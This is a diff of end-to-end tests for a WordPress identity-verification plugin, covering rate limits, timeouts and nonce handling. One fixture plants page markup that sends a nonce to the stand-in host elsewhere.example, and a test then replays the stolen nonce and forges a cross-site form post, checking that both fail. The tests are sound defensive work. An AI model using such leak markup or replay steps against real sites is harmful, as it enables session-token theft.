@@ -194,7 +194,7 @@ for (const { what, block, fill, stored, button, done } of WRITINGS)
     await logIn(page, site, 'editor');
     complaints.console.length = 0;
     await page.goto(address);
-    await expect(page.locator('trueid-widget')).toHaveAttribute('session-url', /_wpnonce=\w+$/);
+    await expect(page.locator('trueid-widget')).toHaveAttribute('session-url', /trueid_nonce=\w+$/);
     await page.getByRole('button', { name: button }).click();
     await widget.expectStep(1);
     await expect.poll(() => sandbox.log().map(({ call }) => call)).toEqual(['token', 'create']);
@@ -310,8 +310,92 @@ test('one visitor gets so many sessions a minute, then 429', async ({ site, sand
   expect(sandbox.log().filter(({ call }) => call === 'create')).toHaveLength(statuses.length - 1);
   // not for the tests that follow
   await site.evaluate(
-    `global $wpdb; $wpdb->query("DELETE FROM $wpdb->options WHERE option_name LIKE '%transient%trueid_%'");`,
+    `global $wpdb; $wpdb->query("DELETE FROM $wpdb->options WHERE option_name LIKE 'trueid_sessions_%'");`,
   );
+});
+
+/** Opens a session for each address inside of the site, on a clock of the test's own. Resolves with what `result` is then. */
+async function openAt(
+  site: WordPress,
+  minute: number,
+  addresses: string,
+  code: string,
+  result: string,
+): Promise<unknown> {
+  const answer = await site.evaluate(
+    `$_SERVER['HTTP_ORIGIN'] = home_url();
+    add_filter('pre_http_request', fn () => ['response' => ['code' => 200],
+      'body' => '{"access_token":"token","result":"1","request_id":"42"}']);
+    ${code}
+    foreach (${addresses} as $address) {
+      $_SERVER['REMOTE_ADDR'] = $address;
+      $statuses[] = rest_do_request(new WP_REST_Request('POST', '/trueid/v1/session'))->get_status();
+    }
+    echo json_encode(${result});`,
+    // far from the real time, which other tests count in
+    `$_SERVER['REQUEST_TIME_FLOAT'] = $clock = ${(50_000_000 + minute) * 60} + 0.5;
+    eval('namespace TrueID\\Identity;
+      function time(): int { return (int) $GLOBALS["clock"]; }
+      function microtime(bool $as_float): float { return $GLOBALS["clock"]; }');`,
+  );
+  return JSON.parse(answer) as unknown;
+}
+
+test('the limit counts every session: of visitors at once, of an IPv6 network, of the whole site', async ({ site }) => {
+  const statuses = (
+    minute: number,
+    addresses: string,
+    perVisitor: number,
+    perSite: number,
+    code = '',
+  ): Promise<unknown> =>
+    openAt(
+      site,
+      minute,
+      addresses,
+      `add_filter('trueid_sessions_per_minute', fn () => ${perVisitor});
+      add_filter('trueid_site_sessions_per_minute', fn () => ${perSite});
+      ${code}`,
+      '$statuses',
+    );
+  // processes side by side, as a web server has them, which wait for each other to begin
+  const meet = `
+    add_option('meeting_' . getmypid(), '');
+    $count = "SELECT COUNT(*) FROM $wpdb->options WHERE option_name LIKE 'meeting%'";
+    while ($wpdb->get_var($count) < 4);`;
+  const crowd = Array.from({ length: 4 }, () => statuses(1, `array_fill(0, 100, '192.0.2.1')`, 200, 1000, meet));
+  const answers = (await Promise.all(crowd)).flat();
+  expect([answers.filter((status) => status === 200).length, answers.length]).toEqual([200, 400]);
+
+  const own = `['2001:db8::1', '2001:db8:0:0:1::2', '2001:db8:0:1::1', '::ffff:192.0.2.1', '::ffff:192.0.2.2', '192.0.2.2']`;
+  expect(await statuses(2, own, 1, 1000)).toEqual([200, 429, 200, 200, 200, 429]);
+
+  // whoever is refused already takes nothing of the others'
+  const mixed = `['192.0.2.1', '192.0.2.1', '192.0.2.1', '192.0.2.2', '192.0.2.3']`;
+  expect(await statuses(3, mixed, 1, 2)).toEqual([200, 429, 429, 200, 429]);
+
+  // the counts of one visitor and of the site: none of earlier minutes
+  const kept = `$wpdb->get_var("SELECT COUNT(*) FROM $wpdb->options WHERE option_name LIKE 'trueid_sessions_%'")`;
+  expect(await openAt(site, 4, `['192.0.2.1']`, '', kept)).toBe('2');
+});
+
+test('the provider’s two calls together have less time than the widget waits', async ({ site }) => {
+  const calls = (secondsOfToken: number): Promise<unknown> =>
+    openAt(
+      site,
+      5,
+      `['192.0.2.1']`,
+      `add_filter('pre_http_request', function ($answer, $options) {
+        $GLOBALS['timeouts'][] = $options['timeout'];
+        $GLOBALS['clock'] += ${secondsOfToken};
+        return $answer;
+      }, 20, 2);`,
+      '[...$timeouts, ...$statuses]',
+    );
+  expect(await calls(5)).toEqual([13, 8, 200]);
+  // no request that nobody would hear of
+  expect(await calls(13)).toEqual([13, 502]);
+  await site.forgetComplaints();
 });
 
 test('the plugin accepts the answers that the widget accepts, and no others', async ({ site, sandbox }) => {
@@ -423,7 +507,7 @@ test('an author can’t send visitors’ photos or visitors elsewhere: addresses
   );
   for (const [visitor, author] of await rendered(site, fine)) {
     expect(visitor).toContain('<trueid-widget ');
-    expect(author).toContain('_wpnonce=');
+    expect(author).toContain('?trueid_nonce=');
   }
 });
 
@@ -469,6 +553,18 @@ async function pressPreview(page: Page): Promise<string> {
   return String((await answer).status());
 }
 
+/** The outcome of `work`, while the site runs PHP of its own beside the plugin. */
+async function withSiteCode<T>(site: WordPress, code: string, work: () => Promise<T>): Promise<T> {
+  const file = `WPMU_PLUGIN_DIR . '/site.php'`;
+  const text = Buffer.from(`<?php ${code}`).toString('base64');
+  await site.evaluate(`wp_mkdir_p(WPMU_PLUGIN_DIR); file_put_contents(${file}, base64_decode('${text}'));`);
+  try {
+    return await work();
+  } finally {
+    await site.evaluate(`unlink(${file});`);
+  }
+}
+
 /** For each of `HOSTILE`: what the press told, and whether it left the site as it was. */
 async function pressAll(page: Page, site: WordPress): Promise<[address: string, told: string, same: boolean][]> {
   await installPageCamera(page);
@@ -495,14 +591,99 @@ test('an address that a filter of the site accepts gets no nonce: the administra
   site,
   page,
 }) => {
-  const plugin = `WPMU_PLUGIN_DIR . '/any-session-url.php'`;
-  await site.evaluate(`
-    wp_mkdir_p(WPMU_PLUGIN_DIR);
-    file_put_contents(${plugin}, "<?php add_filter('trueid_session_url', '__return_true');");`);
-  const pressed = await pressAll(page, site);
-  await site.evaluate(`unlink(${plugin});`);
+  const pressed = await withSiteCode(site, `add_filter('trueid_session_url', '__return_true');`, () =>
+    pressAll(page, site),
+  );
   const visitor = expect.stringMatching(/^(401|207)$/) as unknown;
   expect(pressed).toEqual(HOSTILE.map((address) => [address, visitor, true]));
+});
+
+/** Sends the nonce that WordPress puts in `[trueid]` to another site, wherever it runs a shortcode for an author. */
+const LEAKING = `
+  <p><img alt="" src="https://elsewhere.example/x.png?l=[trueid]" title="[trueid]" data-x="[trueid]">
+  <a href="https://elsewhere.example/?l=[trueid]">More</a></p>
+  <!-- [trueid] -->`;
+/** A site that runs shortcodes in its widgets' titles, and remembers who verified. */
+const SITE_CODE = `
+  add_filter('widget_title', 'do_shortcode');
+  add_action('wp_footer', fn () => the_widget('WP_Widget_Text', ['title' => '[trueid]', 'text' => '']), 1);
+  add_action('trueid_request_created', fn ($request, $user) => update_option('verified', $user), 10, 2);`;
+
+test('a nonce that an author’s page gives away opens one person’s session, and nothing else of the site', async ({
+  site,
+  page,
+  sandbox,
+  serve,
+}) => {
+  await withSiteCode(site, SITE_CODE, async () => {
+    const address = await site.evaluate(`
+      wp_set_current_user(get_user_by('login', 'editor')->ID);
+      echo get_permalink(wp_insert_post(['post_type' => 'page', 'post_status' => 'publish', 'post_title' => 'Leaking',
+        'post_content' => base64_decode('${Buffer.from(LEAKING).toString('base64')}')]));`);
+    await page.route('https://elsewhere.example/**', (route) => route.fulfill({ body: '' }));
+    await logIn(page, site, 'admin');
+    const sent = page.waitForRequest('https://elsewhere.example/**');
+    await page.goto(address);
+    const printed = await page.evaluate(() => {
+      const image = document.querySelector('img[data-x]');
+      const comments = document.createNodeIterator(document, NodeFilter.SHOW_COMMENT);
+      let comment = comments.nextNode();
+      while (comment && !comment.textContent?.includes('trueid')) comment = comments.nextNode();
+      return {
+        title: image?.getAttribute('title'),
+        data: image?.getAttribute('data-x'),
+        href: document.querySelector('[href*="elsewhere.example"]')?.getAttribute('href'),
+        widgetTitle: document.querySelector('.widgettitle')?.innerHTML,
+        comment: comment?.textContent,
+      };
+    });
+    // the one place where WordPress runs no shortcode
+    expect(printed.comment).toBe(' [trueid] ');
+    const { title, data, href, widgetTitle } = printed;
+    const leaks = [title, data, href, widgetTitle, (await sent).url()].map(
+      (text) => /nonce=(\w{10})/.exec(decodeURIComponent(text ?? ''))?.[1],
+    );
+    const nonce = leaks[0] ?? 'none';
+    expect(leaks).toEqual(leaks.map(() => nonce));
+
+    // with it, in the administrator's own browser
+    const asks = ['GET users/me', 'GET users?context=edit', 'GET settings', 'POST settings?title=Taken'];
+    const answers = await page.evaluate(
+      ([leaked, all]) =>
+        Promise.all(
+          all.map(async (ask) => {
+            const [method = '', route = ''] = ask.split(' ');
+            const url = `/wp-json/wp/v2/${route}`;
+            const inQuery = `${url}${url.includes('?') ? '&' : '?'}_wpnonce=${leaked}`;
+            const inHeader = await fetch(url, { method, headers: { 'x-wp-nonce': leaked } });
+            return [ask, (await fetch(inQuery, { method })).status, inHeader.status];
+          }),
+        ),
+      [nonce, asks] as const,
+    );
+    expect(answers).toEqual(asks.map((ask) => [ask, 403, 403]));
+
+    const withNonce = `${site.url}${SESSION}?trueid_nonce=${nonce}`;
+    const verified = (): Promise<string> => site.evaluate(`echo get_option('verified');`);
+    // from elsewhere, which has the person's cookies but neither their origin nor the answer
+    const made = sandbox.log().length;
+    await page.goto((await serve({ html: '<!doctype html><title>Elsewhere</title>', policy: '' })).url);
+    const answer = page.waitForResponse(withNonce);
+    await page.evaluate((url) => {
+      const form = Object.assign(document.createElement('form'), { method: 'post', action: url });
+      document.body.append(form);
+      form.submit();
+    }, withNonce);
+    expect((await answer).status()).toBe(403);
+    expect(sandbox.log()).toHaveLength(made);
+    // without the person's cookies it is worth as much as none
+    expect((await fetch(withNonce, { method: 'POST', headers: { origin: site.url } })).status).toBe(200);
+    expect(await verified()).toBe('0');
+
+    await page.goto(address);
+    const own = await page.evaluate(async (url) => (await fetch(url, { method: 'POST' })).status, withNonce);
+    expect([own, await verified()]).toEqual([200, '1']);
+  });
 });
 
 test('curly quotation marks are refused with a sentence, and text stays text', async ({ site }) => {
@@ -518,16 +699,38 @@ test('curly quotation marks are refused with a sentence, and text stays text', a
   expect(hostile?.[0]).not.toMatch(/<script|<img/);
 });
 
-test('with TRUEID_CAPABILITY, a visitor is asked to sign in', async ({ site }) => {
+test('with TRUEID_CAPABILITY, a visitor is asked to sign in, and a nonce is good for its own person', async ({
+  site,
+}) => {
   const answers = await site.evaluate(`
     define('TRUEID_CAPABILITY', 'read');
     $_SERVER['HTTP_ORIGIN'] = home_url();
-    $ask = fn () => rest_do_request(new WP_REST_Request('POST', '/trueid/v1/session'))->get_status();
+    $_SERVER['REQUEST_METHOD'] = 'POST';
+    $sign_in = function ($name) {
+      $id = get_user_by('login', $name)->ID;
+      $token = WP_Session_Tokens::get_instance($id)->create(time() + 60);
+      $_COOKIE[LOGGED_IN_COOKIE] = wp_generate_auth_cookie($id, time() + 60, 'logged_in', $token);
+      wp_set_current_user($id);
+      return [$_COOKIE[LOGGED_IN_COOKIE], wp_create_nonce('trueid_nonce')];
+    };
+    $editor = $sign_in('editor');
+    $admin = $sign_in('admin');
     wp_set_current_user(0);
-    $visitor = $ask();
-    wp_set_current_user(get_user_by('login', 'editor')->ID);
-    echo json_encode([$visitor, $ask()]);`);
-  expect(JSON.parse(answers)).toEqual([401, 200]);
+    $ask = function ($cookie, $nonce) {
+      $_COOKIE[LOGGED_IN_COOKIE] = $cookie;
+      $request = new WP_REST_Request('POST', '/trueid/v1/session');
+      $request->set_query_params(['trueid_nonce' => $nonce]);
+      return [rest_do_request($request)->get_status(), get_current_user_id()];
+    };
+    echo json_encode([
+      $ask('', ''),
+      $ask('', $editor[1]),
+      $ask($editor[0], ''),
+      $ask($editor[0], $admin[1]),
+      $ask($editor[0], [$editor[1]]),
+      $ask($editor[0], $editor[1]),
+    ]);`);
+  expect(JSON.parse(answers)).toEqual([401, 401, 401, 403, 403, 200].map((status) => [status, 0]));
 });
 
 test('the administrator is told what is wrong in wp-config.php, and the page shows no button until then', async ({
